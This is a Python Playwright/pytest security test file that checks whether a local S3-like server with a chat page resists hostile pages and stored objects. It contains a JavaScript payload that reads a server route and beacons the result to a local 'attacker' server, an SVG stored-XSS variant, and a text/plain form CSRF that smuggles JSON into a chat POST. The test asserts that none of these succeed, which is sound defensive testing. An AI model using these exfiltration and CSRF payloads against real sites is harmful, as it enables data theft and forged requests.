"""What pages of others can do with the server: an attacker's page, a hostile object, a page on another port."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import suppress
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, unquote

import boto3
import pytest

from tests.e2e.product import EXECUTIONS, Server

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

ATTACK = """<!doctype html><title>hostile</title><script>
const say = (what) => new Image().src = "{attacker}/said?" + what;
say("ran");
fetch("{server}/executions").then((r) => r.text()).then((t) => say("read-" + encodeURIComponent(t.slice(0, 200))));
fetch("/executions").then((r) => r.text()).then((t) => say("read-" + encodeURIComponent(t.slice(0, 200))));
fetch("/chat", {{method: "POST", headers: {{"Content-Type": "application/json"}},
  body: JSON.stringify({{question: "STOLEN"}})}}).then((r) => say("posted-" + r.status));
try {{ document.title = parent.document.title; say("parent"); }} catch {{ }}
</script>"""
"""A page that reports to the attacker what it could do in its origin."""
TYPES = {
    "page.html": "text/html", "image.svg": "image/svg+xml", "page.xhtml": "application/xhtml+xml",
    "page.xml": "text/xml",
    "unknown": "x/y", "plain.txt": "text/plain",
}  # fmt: skip
SIGNED = "X-Amz-Credential=" + quote("any/20261122/us-east-1/s3/aws4_request", safe="")


class Attacker:
    """A web server on another port, whose pages the user visits; `said` is what reached it."""

    def __init__(self) -> None:
        self.page = ""
        self.said: list[str] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path.startswith("/said?"):
                    outer.said.append(self.path[6:])
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(outer.page.encode())

            def log_message(self, *_: Any) -> None:
                """Print nothing."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        """The port."""
        return self._server.server_address[1]

    def stop(self) -> None:
        """Stop serving."""
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(name="attacker")
def _attacker() -> Iterator[Attacker]:
    attacker = Attacker()
    yield attacker
    attacker.stop()


@pytest.fixture(name="tab")
def _tab(browser: Browser) -> Iterator[Page]:
    """A tab whose console may show errors: the browser reports what it blocks."""
    context = browser.new_context(accept_downloads=True)
    yield context.new_page()
    context.close()


def _upload(server: Server, attacker: Attacker) -> None:
    s3 = boto3.client(
        "s3", endpoint_url=server.url, region_name="us-east-1", aws_access_key_id="any", aws_secret_access_key="any"
    )
    body = _hostile(server, attacker)
    s3.create_bucket(Bucket="hostile")
    svg = body.removeprefix("<!doctype html><title>hostile</title>").replace("&", "&amp;")
    for bucket in ("hostile", "stepguard-evaluations"):
        for name, kind in TYPES.items():
            text = f'<svg xmlns="http://www.w3.org/2000/svg">{svg}</svg>' if name.endswith("svg") else body
            s3.put_object(Bucket=bucket, Key=name, Body=text.encode(), ContentType=kind)


def _hostile(server: Server, attacker: Attacker) -> str:
    return ATTACK.format(attacker=f"http://127.0.0.1:{attacker.port}", server=server.url)


def _questions(server: Server) -> str:
    return json.dumps(server.request("/executions")[1])


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_hostile_object_reads_and_posts_nothing(
    tab: Page, server: Server, asked: dict[str, str], attacker: Attacker, host: str
) -> None:
    """In a frame of another origin, opened from it, and typed into the address bar: no script runs, nothing is read."""
    assert asked
    _upload(server, attacker)
    attacker.page = _hostile(server, attacker)
    tab.goto(f"http://{host}:{attacker.port}/")
    tab.wait_for_load_state("networkidle")
    assert "ran" in attacker.said  # the same page works when the attacker serves it, and cannot read the server
    assert not [what for what in attacker.said if EXECUTIONS in unquote(what)]
    attacker.said.clear()
    addresses = []
    for bucket in ("hostile", "stepguard-evaluations"):
        for name, kind in TYPES.items():
            chosen = f"&response-content-type={quote(kind)}&response-content-disposition=inline"
            addresses += [f"/{bucket}/{name}?{SIGNED}{chosen}", f"/{bucket}/{name}?{SIGNED}"]
    attacker.page = "".join(f'<iframe src="{server.url}{address}"></iframe>' for address in addresses)
    tab.goto(f"http://{host}:{attacker.port}/")
    tab.wait_for_load_state("networkidle")
    for address in addresses[::3]:
        attacker.page = f"<script>location.href = '{server.url}{address}'</script>"
        tab.goto(f"http://{host}:{attacker.port}/")
        tab.wait_for_load_state("networkidle")
    for address in addresses:
        _open(tab, server.url + address)
    assert attacker.said == []
    assert "STOLEN" not in _questions(server)


def _open(tab: Page, address: str) -> None:
    """Open an address as a user who types it; a download ends the navigation with an error."""
    from playwright.sync_api import Error

    with suppress(Error):
        tab.goto(address)


def test_another_page_reaches_no_route(tab: Page, server: Server, asked: dict[str, str], attacker: Attacker) -> None:
    """Frames, scripts, images, forms and fetches of a page on another port; only a link to our page opens."""
    assert asked
    report = f'"http://127.0.0.1:{attacker.port}/said?'
    routes = ["/executions", "/health", "/ui/", "/", "/stepguard-evaluations?list-type=2", "/moto-api/data.json"]
    frames = "".join(f'<iframe src="{server.url}{route}" onload=""></iframe>' for route in routes)
    scripts = "".join(f'<script src="{server.url}{route}"></script>' for route in ("/ui/app.js", "/executions"))
    attacker.page = f"""{frames}{scripts}
      <iframe name=hidden></iframe>
      <form id=f method=post target=hidden enctype="text/plain" action="{server.url}/chat">
        <input name='{{"question": "STOLEN", "x": "' value='"}}'></form>
      <script>
        document.getElementById("f").submit();
        fetch("{server.url}/executions").then(() => {{ new Image().src = {report}fetched"; }}, () => {{}});
        fetch("{server.url}/executions", {{mode: "no-cors"}}).then((r) => r.text())
          .then((t) => {{ if (t) new Image().src = {report}read"; }}, () => {{}});
        const image = new Image();
        image.onload = () => {{ new Image().src = {report}image"; }};
        image.src = "{server.url}/ui/icon.svg";
      </script>"""
    tab.goto(f"http://127.0.0.1:{attacker.port}/")
    tab.wait_for_load_state("networkidle")
    assert attacker.said == []
    assert "STOLEN" not in _questions(server)
    texts = [frame.evaluate("document.documentElement.innerText") for frame in tab.frames[1:]]
    assert not [text for text in texts if EXECUTIONS in text or "Ask a question" in text]
    attacker.page = f'<a id=a href="{server.url}/ui/">our page</a>'
    tab.goto(f"http://127.0.0.1:{attacker.port}/")
    tab.click("#a")
    tab.get_by_label("Ask a question").wait_for()
